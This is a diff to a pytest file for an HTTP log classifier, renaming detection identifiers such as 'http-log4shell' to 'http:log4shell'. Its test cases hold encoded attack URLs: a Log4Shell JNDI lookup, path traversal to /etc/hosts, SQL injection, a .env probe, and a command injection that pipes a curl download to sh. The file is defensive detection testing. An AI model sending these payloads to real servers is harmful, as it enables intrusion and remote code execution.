@@ -228,13 +228,13 @@ def test_ordinary_flows_are_skipped(sample: ParseResult) -> None:
 @pytest.mark.parametrize(
     ("record", "identifier", "type_"),
     [
-        (17, "http-shellshock", "exploit"),
-        (18, "http-log4shell", "exploit"),
-        (19, "http-path-traversal", "exploit"),
-        (20, "http-sql-injection", "exploit"),
-        (21, "http-exploit-attempt", "exploit"),
-        (22, "http-secret-file-probe", "scanner"),
-        (23, "http-scanner-tool", "scanner"),
+        (17, "http:shellshock", "exploit"),
+        (18, "http:log4shell", "exploit"),
+        (19, "http:path-traversal", "exploit"),
+        (20, "http:sql-injection", "exploit"),
+        (21, "http:phpunit-rce", "exploit"),
+        (22, "http:sensitive-file", "scanner"),
+        (23, "http:scanner-ua", "scanner"),
     ],
 )
 def test_attack_requests(sample: ParseResult, record: int, identifier: str, type_: str) -> None:
@@ -280,15 +280,15 @@ def _http_line(url: str, agent: str = "Mozilla/5.0") -> str:
 @pytest.mark.parametrize(
     ("url", "identifier"),
     [
-        ("/?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D", "http-log4shell"),
-        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts", "http-path-traversal"),  # CVE-2021-41773
-        ("/..%252f..%252f..%252fetc%252fhosts", "http-path-traversal"),
-        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "http-path-traversal"),
-        ("/?id=1+UNION+ALL+SELECT+1,2", "http-sql-injection"),
-        ("/?id=1%27%20OR%20%271%27%3D%271", "http-sql-injection"),
-        ("/cgi-bin/x?c=cd+/tmp;chmod+777+x", "http-exploit-attempt"),
-        ("/?cmd=%3Bcurl%20http%3A%2F%2F1.2.3.4%2Fx%7Csh", "http-exploit-attempt"),
-        ("/%2eenv", "http-secret-file-probe"),
+        ("/?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D", "http:log4shell"),
+        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts", "http:path-traversal"),  # CVE-2021-41773
+        ("/..%252f..%252f..%252fetc%252fhosts", "http:path-traversal"),
+        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "http:path-traversal"),
+        ("/?id=1+UNION+ALL+SELECT+1,2", "http:sql-injection"),
+        ("/?id=1%27%20OR%20%271%27%3D%271", "http:sql-injection"),
+        ("/cgi-bin/x?c=cd+/tmp;chmod+777+x", "http:command-injection"),
+        ("/?cmd=%3Bcurl%20http%3A%2F%2F1.2.3.4%2Fx%7Csh", "http:command-injection"),
+        ("/%2eenv", "http:sensitive-file"),
     ],
 )
 def test_percent_encoded_attack_requests(url: str, identifier: str) -> None:
@@ -296,7 +296,7 @@ def test_percent_encoded_attack_requests(url: str, identifier: str) -> None:
     ev = _event(result, 1)
     assert (ev["classification.identifier"], ev["classification.type"]) == (
         identifier,
-        "exploit" if identifier != "http-secret-file-probe" else "scanner",
+        "exploit" if identifier != "http:sensitive-file" else "scanner",
     )
     assert ev["destination.urlpath"] == url  # kept as logged, not decoded
 
